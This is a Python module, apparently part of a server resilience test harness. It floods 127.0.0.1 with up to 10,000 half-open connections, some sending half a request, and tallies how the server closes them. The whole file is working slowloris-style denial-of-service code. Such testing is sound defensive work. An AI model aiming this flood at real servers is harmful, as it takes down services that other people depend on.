"""Half-open handshakes: 10,000 connections that say nothing, or half a request, and stay."""

import asyncio
import select
import socket
import time

import handshake
from tally import Tally
from target import Target

CONNECTIONS = 10_000
#: Of all attackers together.
CONNECTS_A_SECOND = 4_000
PAUSE_SECONDS = 0.02


async def attack(target: Target, tally: Tally) -> None:
    """Bare sockets and epoll, since a task for each would be too slow to be a flood."""
    crowd = Crowd(target, tally)
    batch = round(CONNECTS_A_SECOND * PAUSE_SECONDS / target.attackers)
    wanted = len(target.share(CONNECTIONS))
    due = time.monotonic()
    while True:
        for _ in range(min(batch, wanted - len(crowd.sockets))):
            crowd.open()
        crowd.look()
        due = max(due + PAUSE_SECONDS, time.monotonic() - 1)
        await asyncio.sleep(max(0, due - time.monotonic()))


class Crowd:
    """The connections that are there."""

    def __init__(self, target: Target, tally: Tally) -> None:
        self.sockets: dict[int, socket.socket] = {}
        self._target = target
        self._tally = tally
        self._poll = select.epoll()
        self._inside: set[int] = set()

    def open(self) -> None:
        new = self._target.socket()
        new.connect_ex(("127.0.0.1", self._target.main))
        self.sockets[new.fileno()] = new
        self._poll.register(new.fileno(), select.EPOLLOUT)

    def look(self) -> None:
        """Takes note of who got in, and of who was thrown out."""
        for number, events in self._poll.poll(0, 4_096):
            if events & select.EPOLLOUT and not events & (select.EPOLLERR | select.EPOLLHUP):
                self._came_in(number)
            else:
                self._ended(number)

    def _came_in(self, number: int) -> None:
        self._tally.opened()
        self._inside.add(number)
        self._poll.modify(number, select.EPOLLIN)
        if number % 2:
            half = handshake.REQUEST[: len(handshake.REQUEST) // 2]
            try:
                self._tally.bytes_out += self.sockets[number].send(half)
            except OSError:
                self._ended(number)

    def _ended(self, number: int) -> None:
        try:
            data = self.sockets[number].recv(4_096)
        except OSError as error:
            data = b""
            self._tally.closes[error.strerror or "error"] += 1
        else:
            self._tally.closes["answered" if data else "end"] += 1
        self._tally.bytes_in += len(data)
        if number in self._inside:
            self._inside.remove(number)
            self._tally.closed()
        self._poll.unregister(number)
        self.sockets.pop(number).close()
